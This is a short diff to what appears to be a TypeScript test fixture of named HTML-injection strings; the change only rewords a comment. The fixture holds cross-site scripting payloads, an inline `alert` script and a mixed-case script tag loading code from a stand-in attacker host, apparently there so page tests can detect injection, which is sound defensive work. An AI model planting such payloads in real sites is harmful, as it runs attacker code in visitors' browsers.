@@ -1,6 +1,6 @@
 import { named } from './text.ts';
 
-/** HTML wherever somebody might put it. It runs `alert`, which pages of tests listen for. */
+/** HTML in all places of a text. It calls `alert`, which page tests listen for. */
 export const htmlTexts = named({
   'a script': '<script>alert(1)</script>',
   'a script of elsewhere, in mixed case': '<ScRiPt src=//evil.example/x.js></sCrIpT>',
